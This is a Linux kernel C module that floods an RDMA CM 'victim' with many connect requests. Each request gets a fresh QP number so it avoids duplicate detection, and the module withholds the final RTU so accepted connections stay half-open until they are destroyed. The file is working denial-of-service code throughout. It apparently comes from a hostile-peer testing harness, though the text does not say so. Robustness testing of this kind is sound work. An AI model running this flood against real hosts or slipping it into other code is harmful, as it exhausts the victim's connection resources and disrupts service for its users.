// SPDX-License-Identifier: GPL-2.0
/*
 * Send many connect requests by rdma_cm, without a QP. After a victim has
 * accepted a request, it waits for the client's last message of the handshake
 * (RTU). This module never sends an RTU.
 */
#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/slab.h>
#include <rdma/rdma_cm.h>

#include "priv.h"

#define HOSTILE_FLOOD_MAX 512
#define HOSTILE_RESOLVE_MS 5000

struct hostile_flood {
	struct rdma_conn_param param;
	atomic_t dialled;
	atomic_t answered;
	atomic_t rejected;
	atomic_t failed;
	/* Number of answers before the first connection is destroyed. */
	int held;
	struct rdma_cm_id *ids[];
};

/*
 * Send a connect request. Each request has a QP number of its own, because the
 * CM ignores a second request with the same QP number as a duplicate.
 */
static int hostile_flood_dial(struct hostile_flood *flood,
			      struct rdma_cm_id *id)
{
	struct rdma_conn_param param = flood->param;

	param.qp_num += atomic_inc_return(&flood->dialled);
	return rdma_connect_locked(id, &param);
}

/*
 * Handle an event of the CM. Return zero even after a failure, because a
 * non-zero result would destroy the id, and hostile_flood_run() destroys all
 * ids.
 */
static int hostile_flood_event(struct rdma_cm_id *id,
			       struct rdma_cm_event *event)
{
	struct hostile_flood *flood = id->context;
	int ret = 0;

	switch (event->event) {
	case RDMA_CM_EVENT_ADDR_RESOLVED:
		ret = rdma_resolve_route(id, HOSTILE_RESOLVE_MS);
		break;
	case RDMA_CM_EVENT_ROUTE_RESOLVED:
		ret = hostile_flood_dial(flood, id);
		break;
	case RDMA_CM_EVENT_CONNECT_RESPONSE:
		/*
		 * The victim has accepted the request (REP). Do not answer by
		 * an RTU.
		 */
		atomic_inc(&flood->answered);
		break;
	case RDMA_CM_EVENT_REJECTED:
		atomic_inc(&flood->rejected);
		break;
	default:
		ret = -EIO;
		break;
	}
	if (ret)
		atomic_inc(&flood->failed);
	return 0;
}

static int hostile_flood_begin(struct hostile_flood *flood, struct net *net,
			       struct sockaddr *dst, u32 i)
{
	struct rdma_cm_id *id = rdma_create_id(net, hostile_flood_event, flood,
					       RDMA_PS_TCP, IB_QPT_RC);

	if (IS_ERR(id))
		return PTR_ERR(id);
	flood->ids[i] = id;
	return rdma_resolve_addr(id, NULL, dst, HOSTILE_RESOLVE_MS);
}

static int hostile_flood_run(struct hostile_flood *flood, struct net *net,
			     struct sockaddr *dst, u32 n, u32 ms)
{
	int ret = 0;
	u32 i;

	for (i = 0; i < n && !ret; i++)
		ret = hostile_flood_begin(flood, net, dst, i);
	if (!ret && msleep_interruptible(ms))
		ret = -EINTR;
	flood->held = atomic_read(&flood->answered);
	for (i = 0; i < n; i++)
		if (flood->ids[i])
			rdma_destroy_id(flood->ids[i]);
	return ret;
}

/*
 * Connect @n times with @len bytes of private data (@hello). After @ms destroy
 * all connections, and print the counts to @text.
 */
int hostile_flood(struct net *net, struct sockaddr *dst, const u8 *hello,
		  u8 len, u32 n, u32 ms, char *text)
{
	struct hostile_flood *flood;
	int ret;

	if (n > HOSTILE_FLOOD_MAX)
		return -EINVAL;
	flood = kzalloc(struct_size(flood, ids, n), GFP_KERNEL);
	if (!flood)
		return -ENOMEM;
	flood->param = (struct rdma_conn_param){
		.private_data = hello,
		.private_data_len = len,
		.responder_resources = 1,
		.initiator_depth = 1,
		.retry_count = 6,
		.rnr_retry_count = 6,
		.qp_num = 0x10000,
	};
	ret = hostile_flood_run(flood, net, dst, n, ms);
	snprintf(text, HOSTILE_TEXT_LEN,
		 "dialled=%d answered=%d held=%d rejected=%d failed=%d",
		 atomic_read(&flood->dialled), atomic_read(&flood->answered),
		 flood->held, atomic_read(&flood->rejected),
		 atomic_read(&flood->failed));
	kfree(flood);
	return ret;
}
